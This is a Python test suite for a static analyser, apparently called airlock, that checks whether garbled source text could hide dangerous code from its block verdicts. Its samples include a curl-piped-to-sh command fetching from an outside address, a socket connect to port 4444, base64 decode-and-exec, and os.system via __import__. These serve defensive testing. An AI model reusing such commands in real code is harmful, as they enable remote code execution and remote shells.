"""Text Python would not compile is never allowed, and never weaker than what parses around it."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airlock.analyzer.models import Verdict
from airlock.analyzer.parse import salvage
from airlock.analyzer.scan import scan
from airlock.vocabulary import VERDICT_ORDER

DECODE_EXEC = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


def rules(report) -> set[str]:  # type: ignore[no-untyped-def]
    return {f.rule_id for f in report.active_findings}


def test_nul_byte_in_a_comment_keeps_decode_then_exec_blocked() -> None:
    clean = scan(DECODE_EXEC, ruleset="default")
    assert clean.verdict == Verdict.block and "AIR-EXEC-002" in rules(clean)
    dirty = scan(b"# \x00 padding\n" + DECODE_EXEC.encode(), ruleset="default")
    assert dirty.verdict == Verdict.block
    assert {"AIR-PARSE-001", "AIR-EXEC-002"} <= rules(dirty)


def test_a_python2_line_does_not_hide_a_shell_pipe() -> None:
    source = "import os\nprint 'updating'\nos.system('curl -s http://203.0.113.9/i | sh')\n"
    report = scan(source, ruleset="default")
    assert report.verdict == Verdict.block
    assert {"AIR-PARSE-001", "AIR-PROC-005"} <= rules(report)


def test_a_broken_block_header_keeps_its_body() -> None:
    source = "import base64\ndef run(:\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
    report = scan(source, ruleset="default")
    assert {"AIR-PARSE-001", "AIR-EXEC-002"} <= rules(report)
    assert report.verdict == Verdict.block


def test_invalid_utf8_keeps_what_surrounds_it() -> None:
    source = b"x = '\xff'\n" + DECODE_EXEC.encode()
    assert {"AIR-PARSE-001", "AIR-EXEC-002"} <= rules(scan(source, ruleset="default"))


def test_negative_control_harmless_code_around_bad_text_is_reviewed_not_blocked() -> None:
    report = scan(b"x = 1\x00\ny = x + 1\n", ruleset="default")
    assert report.verdict == Verdict.review
    assert rules(report) == {"AIR-PARSE-001"}


def test_salvage_keeps_line_numbers_and_block_structure() -> None:
    parsed = salvage("a = 1\nx = = 2\nb = 2\n")
    assert parsed is not None and parsed.text.splitlines()[1] == "pass"
    assert parsed.tree.body[2].lineno == 3
    parsed = salvage("a = 1\nprint 'x'\nb = 2\n")  # Python 2: rewritten, not dropped
    assert parsed is not None and parsed.text.splitlines()[1] == "print('x')"
    assert parsed.tree.body[2].lineno == 3
    parsed = salvage("def f(:\n    return 1\n")
    assert parsed is not None and parsed.text.splitlines()[0] == "if 1:"
    nested = salvage("(" * 50_000 + ")" * 50_000)
    assert nested is None or nested.text == "pass"


FRAGMENTS = [
    "import os\n",
    "x = 1\n",
    "os.system('ls')\n",
    DECODE_EXEC,
    "def f(a):\n    return a * 2\n",
    "import socket\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n",
    "print(sorted([3, 1, 2]))\n",
    "__import__('o' + 's').system('id')\n",
]
GARBAGE = ["print 'x'\n", "def (:\n", "\x00\n", "x = = 1\n", "return return\n", "'''\n"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6),
    st.sampled_from(GARBAGE),
    st.integers(min_value=0, max_value=6),
)
def test_bad_text_between_statements_never_lowers_the_verdict(
    parts: list[str], garbage: str, at: int
) -> None:
    clean = scan("".join(parts), ruleset="default").verdict
    at = min(at, len(parts))
    dirty = scan("".join([*parts[:at], garbage, *parts[at:]]), ruleset="default").verdict
    assert VERDICT_ORDER[dirty] >= max(VERDICT_ORDER[clean], VERDICT_ORDER[Verdict.review])


def test_tabs_mixed_with_spaces_as_cpython_allows_are_analysed() -> None:
    """CPython counts a tab to the next multiple of 8; libcst's tokenizer rejects the mix."""
    import ast

    import libcst as cst
    import pytest

    source = (
        "import base64\n"
        "for x in [1]:\n"
        "    try:\n"
        "    \tif x:\n"  # 4 spaces + tab: column 8 to CPython
        "        \texec(base64.b64decode('cHJpbnQoMSk='))\n"  # column 16
        "    except:\n"
        "    \tpass\n"
    )
    ast.parse(source)  # the interpreter runs it
    with pytest.raises(cst.ParserSyntaxError):  # negative control: libcst alone cannot read it
        cst.parse_module(source)
    report = scan(source, ruleset="default")
    assert report.verdict == Verdict.block
    assert "AIR-EXEC-002" in rules(report) and "AIR-PARSE-001" not in rules(report)


def test_a_method_cut_from_its_class_is_analysed_dedented() -> None:
    source = "    def run(self, task_id, command):\n        return eval(command)\n"
    report = scan(source, ruleset="default")
    assert {"AIR-PARSE-001", "AIR-EXEC-001"} <= rules(report)
    finding = next(f for f in report.active_findings if f.rule_id == "AIR-EXEC-001")
    assert finding.line == 2 and finding.source_line == "        return eval(command)"
